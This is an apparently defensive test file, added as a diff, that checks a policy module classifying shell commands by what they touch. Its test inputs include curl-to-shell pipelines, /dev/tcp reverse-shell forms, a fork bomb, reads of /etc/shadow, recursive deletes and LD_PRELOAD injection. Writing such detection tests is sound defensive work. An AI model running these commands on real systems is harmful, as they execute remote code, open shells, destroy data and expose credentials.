@@ -1,0 +1,365 @@
+"""Actions to footprints, through the packaged programs: what runs where, fed by what."""
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from policy.footprint import footprint
+from policy.model import AuditRead, Context, Exec, Executable, Patch, Read, Ssh, Undo
+from policy.shell import tree as t
+from policy.shell.reader import read
+
+CONTEXT = Context("/home/dev/work", "/home/dev", "dev", "box")
+W = CONTEXT.workspace
+
+
+def of(command, **more):
+    return footprint(Exec(command, None, W, **more), CONTEXT)
+
+
+def lines(command, **more):
+    return [f"{one.operation} {one.resource}" for one in of(command, **more).accesses]
+
+
+IN_ORDER = {
+    "one program": ("cat a", [f"fs.read {W}/a"]),
+    "a tilde": ("cat ~/a ~root/b", ["fs.read /home/dev/a", "fs.read /root/b"]),
+    "another home": ("cat ~you/b ~dev/c", ["fs.read /home/you/b", "fs.read /home/dev/c"]),
+    "a known variable": ("cat $HOME/a", ["fs.read /home/dev/a"]),
+    "a constant": ("x=/etc; cat $x/a", ["fs.read /etc/a"]),
+    "a pattern": ("ls a*", [f"fs.list {W}/a*"]),
+    "quoted characters of a pattern": ("cat 'a*'", [f"fs.read {W}/a*"]),
+    "cd and": ("cd /etc && cat a", ["fs.read /etc/a"]),
+    "cd then": ("cd /etc; cat a", ["fs.read /etc/a", f"fs.read {W}/a"]),
+    "cd or": ("cd /etc || cat a", [f"fs.read {W}/a"]),
+    "not cd": ("! cd /etc && cat a", [f"fs.read {W}/a"]),
+    "cd home": ("cd && cat a", ["fs.read /home/dev/a"]),
+    "cd up": ("cd .. && cat a", ["fs.read /home/dev/a"]),
+    "cd behind builtin": ("builtin cd /etc && cat a", ["fs.read /etc/a"]),
+    "cd back": ("cd - && cat a", ["fs.read \0/a"]),
+    "cd in a pipeline": ("cd /etc | true; cat a", [f"fs.read {W}/a"]),
+    "cd in a subshell": ("(cd /etc && cat a); cat b", ["fs.read /etc/a", f"fs.read {W}/b"]),
+    "cd in a group": ("{ cd /etc; } && cat a", ["fs.read /etc/a"]),
+    "cd in the background": ("cd /etc & cat a", [f"fs.read {W}/a"]),
+    "cd in a loop": (
+        "for i in 1 2; do cat a; cd ..; done",
+        [f"fs.read {W}/a", "fs.read /home/dev/a", "fs.read /home/a", "fs.read /a"],
+    ),
+    "cd in a condition": (
+        "if cd /etc; then cat a; elif cd /usr; then cat b; else cat c; fi",
+        ["fs.read /etc/a", "fs.read /usr/b", f"fs.read {W}/c"],
+    ),
+    "an if without else": (
+        "if true; then cd /etc; fi; cat a",
+        ["fs.read /etc/a", f"fs.read {W}/a"],
+    ),
+    "cd in a case": (
+        "case $x in a*) cd /etc;; *) true;; esac; cat a",
+        [f"fs.read {W}/a", "fs.read /etc/a"],
+    ),
+    "a while loop": ("while cat a; do cat b; done", [f"fs.read {W}/a", f"fs.read {W}/b"]),
+    "a counting loop": ("for ((i=0; i<3; i++)); do cat a; done", [f"fs.read {W}/a"]),
+    "a loop over words": ("for f in a b; do cat $f; done", [f"fs.read {W}/a", f"fs.read {W}/b"]),
+    "a loop over a pattern": ("for f in a*; do cat \"$f\"; done", [f"fs.read {W}/a*"]),
+    "a test of a file": ("[[ -f a && ! a -nt b ]]", [f"fs.list {W}/a", f"fs.list {W}/b"]),
+    "a test of a string": ("[[ a == b || -z x ]]", []),
+    "arithmetic": ("((1 + 1))", []),
+    "a function": ("f() { cat a; }; f", [f"fs.read {W}/a"]),
+    "a function that nobody calls": ("f() { cat a; }; true", []),
+    "a function named like a program": (
+        "ls() { cat a; }; ls b",
+        [f"fs.read {W}/a", f"fs.list {W}/b"],
+    ),
+    "its own output": ("./a > a", [f"fs.write {W}/a", f"code.exec {W}/a"]),
+    "input": ("wc -l < a", [f"fs.read {W}/a"]),
+    "output": ("true > a", [f"fs.write {W}/a"]),
+    "appended output": ("true >> a 2>&1", [f"fs.write {W}/a"]),
+    "both outputs": ("true &> a", [f"fs.write {W}/a"]),
+    "both ways": ("true <> a", [f"fs.write {W}/a", f"fs.read {W}/a"]),
+    "no output": ("true > /dev/null 2>&1", []),
+    "redirected group": ("{ cat a; } > b", [f"fs.write {W}/b", f"fs.read {W}/a"]),
+    "a socket": ("true > /dev/tcp/h/1", ["net.connect /dev/tcp/h/1"]),
+    "an assignment": ("LD_PRELOAD=x true", ["env.poison LD_PRELOAD"]),
+    "the separator of one read": ("IFS=, read a b", []),
+    "the separator of all": ("IFS=,", ["env.poison IFS"]),
+    "a harmless assignment": ("FOO=bar true", []),
+    "an export": ("export PATH=/x", ["env.poison PATH"]),
+    "an export by name": ("export PATH", ["env.poison PATH"]),
+    "an exported function": ("f() { true; }; export -f f", ["env.poison an exported function"]),
+    "all that is exported": ("export -p", ["credential.read <environment>"]),
+    "an option of read": ("read -r PATH", ["env.poison PATH"]),
+    "a loop variable": ("for PATH in a; do true; done", ["env.poison PATH"]),
+    "a variable that is read": ("read PATH", ["env.poison PATH"]),
+    "a secret variable": ("echo $API_TOKEN", ["credential.read <a secret variable>"]),
+    "a part of a secret variable": (
+        "echo ${API_TOKEN:0:3}",
+        ["credential.read <a secret variable>"],
+    ),
+    "a variable of the text": ("API_TOKEN=$(date); echo $API_TOKEN", []),
+    "known text through a pipe": ("echo 'cat a' | sh", [f"fs.read {W}/a"]),
+    "decoded text through a pipe": ("echo Y2F0IGE= | base64 -d | sh", [f"fs.read {W}/a"]),
+    "text of several commands": (
+        "(echo 'cat a'; echo 'cat b') | sh",
+        [f"fs.read {W}/a", f"fs.read {W}/b"],
+    ),
+    "a here-string": ("sh <<< 'cat a'", [f"fs.read {W}/a"]),
+    "text in a file that is opened": ("sh < a", [f"fs.read {W}/a", f"code.exec {W}/a"]),
+    "known text of a process substitution": ("sh <(echo cat a)", [f"fs.read {W}/a"]),
+    "a substitution": ("echo $(cat a)", [f"fs.read {W}/a"]),
+    "known words of a substitution": ("cat $(echo a b)", [f"fs.read {W}/a", f"fs.read {W}/b"]),
+    "a known word of a substitution": ("cat x$(echo a)", [f"fs.read {W}/xa"]),
+    "a shell in a shell": ("sh -c 'cat a'", [f"fs.read {W}/a"]),
+    "a function of a shell in a shell": ("sh -c 'f() { cat a; }; f'", [f"fs.read {W}/a"]),
+}  # fmt: skip
+
+
+@pytest.mark.threat("T02")
+@pytest.mark.parametrize(("command", "expected"), IN_ORDER.values(), ids=IN_ORDER.keys())
+def test_a_command_line_touches_what_its_commands_touch(command, expected):
+    assert lines(command) == expected
+
+
+CONTAINS = {
+    "a program nobody knows": ("nope-nope a", "code.exec <unknown program nope-nope>"),
+    "a computed program": ("$x a", "opaque the program's name is not known"),
+    "a program named by output": ("$(echo rm) a", "opaque a program named by a command's output"),
+    "what such a program does": ("$(echo rm) a", f"fs.delete {W}/a"),
+    "computed text": ('sh -c "$x"', "code.exec <shell text that is not known>"),
+    "computed text beside known text": ('sh -c "rm b; $x"', f"fs.delete {W}/b"),
+    "text from the network": ("curl http://h | sh", "code.exec <network>"),
+    "text from the network through a filter": ("curl http://h | sed p | sh", "code.exec <network>"),
+    "a substitution from the network": ('sh -c "$(curl http://h)"', "code.exec <network>"),
+    "a variable from the network": ('x=$(curl http://h); sh -c "$x"', "code.exec <network>"),
+    "a part of such a variable": ('x=$(curl http://h); sh -c "${x%a}"', "code.exec <network>"),
+    "lines from the network": ('curl h | while read l; do sh -c "$l"; done', "code.exec <network>"),
+    "the reply": ('curl h | while read; do sh -c "$REPLY"; done', "code.exec <network>"),
+    "a loop over the network": ('for l in $(curl h); do sh -c "$l"; done', "code.exec <network>"),
+    "a process substitution from the network": ("sh <(curl http://h)", "code.exec <network>"),
+    "a process fed from the network": ("curl http://h > >(sh)", "code.exec <network>"),
+    "a file from the network": ("curl -o a http://h; sh a", "code.exec <network>"),
+    "a file fetched among others": (
+        "wget http://h/a; sh a",
+        f"code.exec <unknown program {W}/a, perhaps",
+    ),
+    "a file written before": ("echo x > a; sh a", f"code.exec <unknown program {W}/a, written"),
+    "a file copied before": ("cp b a && ./a", f"code.exec <unknown program {W}/a, written"),
+    "a shell on a socket": ("sh >& /dev/tcp/h/1 0>&1", "code.exec <network>"),
+    "a shell that reads a socket": ("exec 5<>/dev/tcp/h/1; sh <&5", "code.exec <network>"),
+    "a socket opened for input": ("sh < /dev/tcp/h/1", "code.exec <network>"),
+    "a redirection not known": ("cat < $x", "opaque a redirection to a file not known"),
+    "a redirection that may be a socket": ("cat < /dev/$x", "opaque a redirection to a file not"),
+    "a word that may be an option": (
+        "rm -- a; tar $x",
+        "opaque a word that is not known may be an",
+    ),
+    "a word of a loop that may be one": (
+        "for f in $(cat l); do tar $f; done",
+        "opaque a word that",
+    ),
+    "a bomb": ("f() { f | f & }; f", "resource.exhaust function f"),
+    "an endless loop": ("while true; do ls; done", "resource.exhaust a loop without end"),
+    "another endless loop": ("until false; do ls; done", "resource.exhaust a loop without end"),
+    "the shortest endless loop": ("while :; do ls; done", "resource.exhaust a loop without end"),
+    "text without a tree": ("rm a; eval x", "opaque runs text or code in this shell at byte 6"),
+    "commands in such text": ("rm a; eval x", f"fs.delete {W}/a"),
+    "constants in such text": ("x='rm a'; eval \"$x\"", f"fs.delete {W}/a"),
+    "text without a tree in a shell": ("sh -c 'eval x'", "opaque runs text or code in this shell"),
+    "a directory not known": ("cd $x && rm a", "fs.delete \0/a"),
+    "too many directories": ("cd a; cd b; cd c; cd d; rm e", "fs.delete \0/e"),
+    "the output that is deleted": ("rm $(ls)", "fs.delete \0"),
+    "a part of output": ("rm x$(echo a b)", f"fs.delete {W}/x\0"),
+    "what find finds": ("find /etc -exec rm {} \\;", "fs.delete /etc/\0"),
+    "what is listed and deleted": ("ls /etc | xargs rm", "fs.delete /etc/\0"),
+    "the loop's own variable": ("for f in a; do f=b; rm $f; done", "fs.delete \0"),
+    "a loop variable that is read": ("for f in a; do read f; rm $f; done", "fs.delete \0"),
+    "a loop variable that is counted": ("for f in 1; do ((f++)); rm $f; done", "fs.delete \0"),
+    "an argument of a function": ('f() { rm "$1"; }; f a', "fs.delete \0"),
+    "a number": ("rm a$((1+1))", f"fs.delete {W}/a\0"),
+    "a length": ("rm ${#x}", "fs.delete \0"),
+    "a function that moves": ("f() { cd /etc; }; f; rm a", "fs.delete /etc/a"),
+    "a loop that stays": ("while cd /etc; do true; done; rm a", "fs.delete /etc/a"),
+    "a popped directory": ("popd && rm a", "fs.delete \0/a"),
+    "a shell in a directory not known": ("cd $x && sh -c 'rm a'", "fs.delete \0/a"),
+    "a program in a directory not known": (
+        "cd $x && ./tar",
+        "opaque a program whose folder is not",
+    ),
+    "a loop that goes deeper": ("while true; do cd a; rm b; done", "fs.delete \0/b"),
+    "a pushed directory": ("pushd /etc && rm a", "fs.delete /etc/a"),
+}
+
+
+@pytest.mark.threat("T03")
+@pytest.mark.parametrize(("command", "expected"), CONTAINS.values(), ids=CONTAINS.keys())
+def test_computed_and_hidden_parts_stay_in_sight(command, expected):
+    found = lines(command)
+    assert any(one.startswith(expected) for one in found), found
+
+
+def test_a_lone_literal_command_runs_as_its_argument_vector():
+    assert of("cat 'a b'").executable == Executable(argv=("cat", "a b"))
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["cat a > b", "cat a | wc", "cat ~", "cat *", "X=1 cat", "cd x", "export A=1", "echo a"],
+)
+def test_anything_else_runs_as_the_canonical_script(command):
+    found = of(command).executable
+    assert found.argv is None
+    assert isinstance(read(found.script), t.Sequence)
+
+
+@pytest.mark.threat("T03")
+def test_text_without_a_tree_has_nothing_to_run():
+    found = of("rm a; eval x")
+    assert found.executable == Executable()
+    assert found.opaque == "runs text or code in this shell at byte 6"
+
+
+def test_an_argument_vector_has_no_shell_meaning():
+    found = footprint(Exec(None, ("cat", "$HOME", "a;b", "*"), W), CONTEXT)
+    assert [one.resource for one in found.accesses] == [f"{W}/$HOME", f"{W}/a;b", f"{W}/*"]
+    assert found.executable == Executable(argv=("cat", "$HOME", "a;b", "*"))
+    assert {one.how for one in found.accesses} == {"exact"}
+
+
+@pytest.mark.parametrize("argv", [(), ("cat", "a\0b")])
+def test_an_argument_vector_that_cannot_start_is_opaque(argv):
+    found = footprint(Exec(None, argv, W), CONTEXT)
+    assert found.executable == Executable()
+    assert found.opaque is not None
+    assert [one.operation for one in found.accesses] == ["opaque"]
+
+
+def test_programs_are_named_once_in_order():
+    assert of("ls | xargs cat; cat x").programs == ("ls", "xargs", "cat")
+
+
+def test_the_environment_of_a_command_can_poison_it():
+    found = lines("true", env=(("LD_PRELOAD", "x"), ("FOO", "y")))
+    assert found == ["env.poison LD_PRELOAD"]
+
+
+def test_asking_for_write_is_an_access():
+    assert lines("true", wants_write=True) == [f"fs.write {W}"]
+
+
+def test_a_remote_command_says_where():
+    found = footprint(Ssh(("a", "b"), "cat x", None, sudo=True), CONTEXT)
+    assert [(one.operation, one.resource) for one in found.accesses] == [
+        ("remote.exec", "a"),
+        ("remote.exec", "b"),
+        ("privilege.escalate", "sudo"),
+        ("fs.read", "/home/dev/x"),
+    ]
+    assert found.executable == Executable(argv=("cat", "x"))
+
+
+def test_a_remote_command_without_sudo_escalates_nothing():
+    found = footprint(Ssh(("a",), None, ("ls",)), CONTEXT)
+    assert [one.operation for one in found.accesses] == ["remote.exec", "fs.list"][:1]
+
+
+def test_other_actions_touch_what_they_say():
+    changes = (("fs.write", "/w/a"), ("fs.delete", "/w/b"))
+    for action in (Patch(changes), Undo("u", changes)):
+        found = footprint(action, CONTEXT).accesses
+        assert tuple((one.operation, one.resource) for one in found) == changes
+    found = footprint(Read("fs.list", "/w"), CONTEXT).accesses
+    assert [(one.operation, one.resource) for one in found] == [("fs.list", "/w")]
+    assert [one.operation for one in footprint(AuditRead("own"), CONTEXT).accesses] == [
+        "sys.inspect"
+    ]
+
+
+LOOPS = "".join(f"for {name} in a b c d e f g h; do " for name in "abcdefgh")
+LOOPS += "ls $a $b" + "; done" * 8
+
+
+@pytest.mark.threat("T03")
+@pytest.mark.parametrize(
+    "command",
+    [
+        LOOPS,
+        "ls a;" * 2000,
+        "f() { f2; }; f2() { ls; }; " + "f;" * 3000,
+    ],
+)
+def test_text_that_is_too_much_work_is_opaque(command):
+    found = of(command)
+    assert found.opaque is not None
+    assert found.executable == Executable()
+    assert "opaque" in {one.operation for one in found.accesses}
+
+
+def test_an_argument_vector_that_is_too_much_work_is_opaque():
+    argv = ("sh", "-c", LOOPS)
+    assert footprint(Exec(None, argv, W), CONTEXT).opaque is not None
+
+
+TEXTS = st.lists(
+    st.sampled_from(
+        [
+            *"a;&|<>(){}$'\"`*~ \n=-[]!#\\", " ls ", " rm ", " sudo ", " xargs ", "$(", "<(",
+            "${x}",            " for f in ", "; do ", "; done", "if ", "; then ", "; fi", " tar ", " git ", "/etc/",
+            "&&",            " bash -c ", " awk ", " sed ", "f(){ ", "; }", " find . -exec ", " {} \\;", "case x in ",
+        ]
+    ),
+    max_size=25,
+).map("".join)  # fmt: skip
+
+
+@pytest.mark.threat("T03")
+@given(TEXTS | st.text(max_size=60))
+@settings(max_examples=400)
+@example("\0")
+@example("\ud800")
+@example("awk '/['")
+@example("sed 's'")
+def test_a_footprint_never_raises(text):
+    found = of(text)
+    if found.executable == Executable():
+        assert "opaque" in {one.operation for one in found.accesses}
+
+
+@pytest.mark.threat("T03")
+@given(st.lists(st.text(max_size=12), max_size=6))
+def test_a_footprint_of_an_argument_vector_never_raises(argv):
+    footprint(Exec(None, tuple(argv), W), CONTEXT)
+
+
+@pytest.mark.threat("T02")
+@given(
+    st.sampled_from(
+        ["sudo ", "env ", "nice ", "nohup ", "timeout 5 ", "time -p ", "command ", "xargs "]
+    ),
+    st.sampled_from(
+        [
+            "rm -rf a",
+            "cat /etc/shadow",
+            "git push -f",
+            "curl h",
+            "tar xf a",
+            "nope",
+            "sh -c 'rm a'",
+            "sed -i p a",
+        ]
+    ),
+)
+def test_a_wrapped_command_touches_all_that_it_touches_alone(wrapper, command):
+    if wrapper == "time -p ":
+        wrapper = "/usr/bin/time -p "
+    assert set(of(command).accesses) <= set(of(wrapper + command).accesses)
+
+
+@pytest.mark.threat("T02")
+@given(
+    st.sampled_from(["({})", "{{ {}; }}", "if true; then {}; fi", "{} &", "! {}", "true && {}",
+                     "{} | cat",                     "f() {{ {}; }}; f", "sh -c '{}'", "echo $({})", "cat <({})",
+                     "while ls; do {}; done"]),
+    st.sampled_from(["rm -rf a", "cat /etc/shadow", "git push -f", "tar xf a", "nope",
+                     "sed -i p a"]),
+)  # fmt: skip
+def test_a_command_inside_another_construct_touches_all_that_it_touches_alone(around, command):
+    assert set(of(command).accesses) <= set(of(around.format(command)).accesses)
